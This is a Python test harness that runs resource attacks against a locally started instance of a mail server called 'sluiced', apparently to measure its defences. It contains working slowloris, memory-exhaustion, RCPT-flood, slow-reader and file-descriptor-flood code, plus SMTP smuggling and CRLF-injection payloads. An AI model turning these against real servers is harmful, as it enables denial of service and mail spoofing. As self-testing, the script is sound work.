#!/usr/bin/env python3
"""scripts/attack/attacks.py: the resource attacks of issue 21 against a
running sluiced. Standard library only. Each attack prints one result line
("attack: figures; verdict"). Run one:

  scripts/attack/attacks.py slowloris  --smtp 127.0.0.1:2525 --conns 50 --interval 1
  scripts/attack/attacks.py memory     --smtp 127.0.0.1:2525 --http 127.0.0.1:2081 \
        --ecstream 127.0.0.1:1825 --pid PID --conns 20 --size 60
  scripts/attack/attacks.py rcpt-flood --smtp 127.0.0.1:2525 --rcpts 100000
  scripts/attack/attacks.py slow-reader --smtp 127.0.0.1:2525 --noops 300000
  scripts/attack/attacks.py fd-flood   --smtp 127.0.0.1:2525 --http 127.0.0.1:2081 --console var/control.sock
  scripts/attack/attacks.py bare-lf    --smtp 127.0.0.1:2525
  scripts/attack/attacks.py inject-crlf --http 127.0.0.1:2081

scripts/attack/run.sh builds sluiced, starts it with a private config and
runs them all; docs/security.md lists what they measured.
"""
import argparse, json, os, socket, struct, sys, threading, time

def hp(s):
    h, p = s.rsplit(":", 1)
    return h, int(p)

def rss_mib(pid):
    try:
        for line in open(f"/proc/{pid}/status"):
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    except OSError:
        pass
    return 0.0

def smtp_open(addr, data=True, rcvbuf=0):
    s = socket.socket()
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.settimeout(30)
    s.connect(hp(addr))
    f = s.makefile("rb")
    f.readline()
    if data:
        s.sendall(b"EHLO attack.test\r\nMAIL FROM:<a@example.org>\r\nRCPT TO:<b@example.com>\r\nDATA\r\n")
        while not f.readline().startswith(b"354"):
            pass
    return s, f

def closed(s):
    s.setblocking(False)
    try:
        return s.recv(4096, socket.MSG_PEEK) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True
    finally:
        s.setblocking(True)

def slowloris(a):
    conns = [smtp_open(a.smtp)[0] for _ in range(a.conns)]
    t0, alive, sent = time.time(), list(range(a.conns)), 0
    while alive and time.time() - t0 < a.max:
        for i in list(alive):
            try:
                if closed(conns[i]):
                    alive.remove(i)
                    continue
                conns[i].send(b"x")
                sent += 1
            except OSError:
                alive.remove(i)
        time.sleep(a.interval)
    el = time.time() - t0
    print(f"slowloris: {a.conns} clients, 1 byte / {a.interval}s inside DATA: "
          f"{a.conns - len(alive)} closed, {len(alive)} still open after {el:.0f}s ({sent} bytes sent)")

def memory(a):
    size = a.size << 20
    before, peak, stop = rss_mib(a.pid), [0.0], False
    def watch():
        while not stop:
            peak[0] = max(peak[0], rss_mib(a.pid))
            time.sleep(0.05)
    threading.Thread(target=watch, daemon=True).start()
    chunk = (b"x" * 1022 + b"\r\n") * 64
    socks, res = [], {"smtp": [], "http": [], "ecstream": []}
    def feed(s, n):
        try:
            for _ in range(n // len(chunk)):
                s.sendall(chunk)
        except OSError:
            pass
    ths = []
    for i in range(a.conns):
        s, f = smtp_open(a.smtp)
        socks.append(("smtp", s, f))
        if a.http:
            h = socket.create_connection(hp(a.http))
            h.sendall(b"POST /api/v1/messages HTTP/1.1\r\nHost: x\r\nContent-Type: message/rfc822\r\n"
                      b"X-MSYS-API: {}\r\nContent-Length: %d\r\n\r\n" % size)
            socks.append(("http", h, h.makefile("rb")))
        if a.ecstream:
            e = socket.create_connection(hp(a.ecstream))
            ef = e.makefile("rb")
            hdr = ef.read(5); ef.read(struct.unpack(">I", hdr[:4])[0])
            e.sendall(struct.pack(">IB", 9, 2) + b"ECSTREAM\x01" + struct.pack(">IB", size, 3))
            socks.append(("ecstream", e, ef))
    for kind, s, f in socks:
        t = threading.Thread(target=feed, args=(s, size - 4096)); t.start(); ths.append(t)
    for t in ths:
        t.join()
    time.sleep(0.5)
    during = peak[0]
    for kind, s, f in socks:
        try:
            s.settimeout(60)
            if kind == "smtp":
                s.sendall(b"\r\n.\r\nQUIT\r\n")
                r = f.read().decode(errors="replace")
                last = [l for l in r.splitlines() if l[:3].isdigit() and not l.startswith(("221", "354"))][-1:] or ["no answer"]
                res[kind].append("452" if "452" in r else "250" if "250 OK" in r or "250 2.0.0 OK" in r else last[0][:40])
            elif kind == "http":
                res[kind].append(f.readline().split(b" ")[1].decode() if True else "?")
            else:
                h = f.read(5)
                res[kind].append("error" if len(h) == 5 and h[4] == 5 else "?")
        except (OSError, IndexError):
            res[kind].append("closed")
        s.close()
    stop = True
    summary = ", ".join(f"{k} {sorted(set(v))} x{len(v)}" for k, v in res.items() if v)
    print(f"memory: {a.conns} x {a.size} MB per protocol in flight: RSS {before:.0f} MiB before, "
          f"{during:.0f} MiB peak during; answers: {summary}")

def rcpt_flood(a):
    s, f = smtp_open(a.smtp, data=False)
    def send():
        s.sendall(b"EHLO x\r\nMAIL FROM:<a@example.org>\r\n")
        buf = b"".join(b"RCPT TO:<r%d@example.com>\r\n" % i for i in range(a.rcpts))
        s.sendall(buf + b"QUIT\r\n")
    threading.Thread(target=send, daemon=True).start()
    ok = refused = 0
    for line in f:
        if line.startswith(b"250") and b"RCPT" in line.upper() or line.startswith(b"250 2.1.5"):
            ok += 1
        elif line.startswith(b"452"):
            refused += 1
        elif line.startswith(b"221"):
            break
    print(f"rcpt-flood: {a.rcpts} RCPTs in one transaction: {ok} accepted, {refused} refused (452)")

def slow_reader(a):
    s, f = smtp_open(a.smtp, data=False, rcvbuf=4096)
    threading.Thread(target=lambda: s.sendall(b"EHLO x\r\n" + b"NOOP\r\n" * a.noops + b"QUIT\r\n"),
                     daemon=True).start()
    buf, t0 = bytearray(), time.time()
    try:
        while True:
            b = s.recv(1024)
            if not b:
                break
            buf += b
            time.sleep(a.pause)
    except OSError:
        pass
    got = buf.count(b"\r\n250 ") + buf.startswith(b"250 ")
    print(f"slow-reader: {a.noops} pipelined NOOPs, 1 KB read per {a.pause}s through a 4 KB window: "
          f"{got} replies (EHLO's included), 221 seen: {b'221 ' in buf}, {time.time()-t0:.0f}s")

def fd_flood(a):
    conns, refused = [], 0
    while len(conns) < a.max:
        try:
            s = socket.create_connection(hp(a.smtp), timeout=5)
            l = s.makefile("rb").readline()
        except OSError:
            break
        if l.startswith(b"421"):
            refused += 1
            s.close()
            if refused >= 3:
                break
            continue
        conns.append(s)
    health = console = "fail"
    try:
        h = socket.create_connection(hp(a.http), timeout=5)
        h.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        health = h.makefile("rb").readline().decode().strip()
    except OSError as e:
        health = str(e)
    if a.console:
        try:
            c = socket.socket(socket.AF_UNIX); c.settimeout(5); c.connect(a.console); console = "connected"
        except OSError as e:
            console = str(e)
    print(f"fd-flood: {len(conns)} SMTP sessions open, then {refused} refused; /healthz: {health!r}; console: {console}")
    for s in conns:
        s.close()

def bare_lf(a):
    s, f = smtp_open(a.smtp)
    s.sendall(b"Subject: bare\r\n\r\na\n.\nMAIL FROM:<evil@x>\r\n.\r\nQUIT\r\n")
    print("bare-lf: \\n.\\n inside DATA answered " + repr(f.readline().decode().strip()))

def inject_crlf(a):
    body = json.dumps({"template": "Subject: x\n\nx\n",
                       "recipients": [{"to": "b@example.com\r\n<c@evil.test>", "from": "a@example.org"}]}).encode()
    s = socket.create_connection(hp(a.http))
    s.sendall(b"POST /v1.0/inject HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
              b"Connection: close\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    print("inject-crlf: to \"b@example.com\\r\\n<c@evil.test>\" answered " + repr(s.makefile("rb").readline().decode().strip()))

def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("attack", choices=["slowloris", "memory", "rcpt-flood", "slow-reader", "fd-flood", "bare-lf", "inject-crlf"])
    p.add_argument("--smtp", default="127.0.0.1:2525"); p.add_argument("--http", default="")
    p.add_argument("--ecstream", default=""); p.add_argument("--console", default="")
    p.add_argument("--pid", type=int, default=0); p.add_argument("--conns", type=int, default=20)
    p.add_argument("--size", type=int, default=60, help="MB per message (memory)")
    p.add_argument("--interval", type=float, default=1.0); p.add_argument("--max", type=float, default=900)
    p.add_argument("--rcpts", type=int, default=100000); p.add_argument("--noops", type=int, default=300000)
    p.add_argument("--pause", type=float, default=0.1)
    a = p.parse_args()
    if a.attack == "fd-flood":
        a.max = int(a.max) if a.max != 900 else 100000
    {"slowloris": slowloris, "memory": memory, "rcpt-flood": rcpt_flood, "slow-reader": slow_reader,
     "fd-flood": fd_flood, "bare-lf": bare_lf, "inject-crlf": inject_crlf}[a.attack](a)

if __name__ == "__main__":
    main()
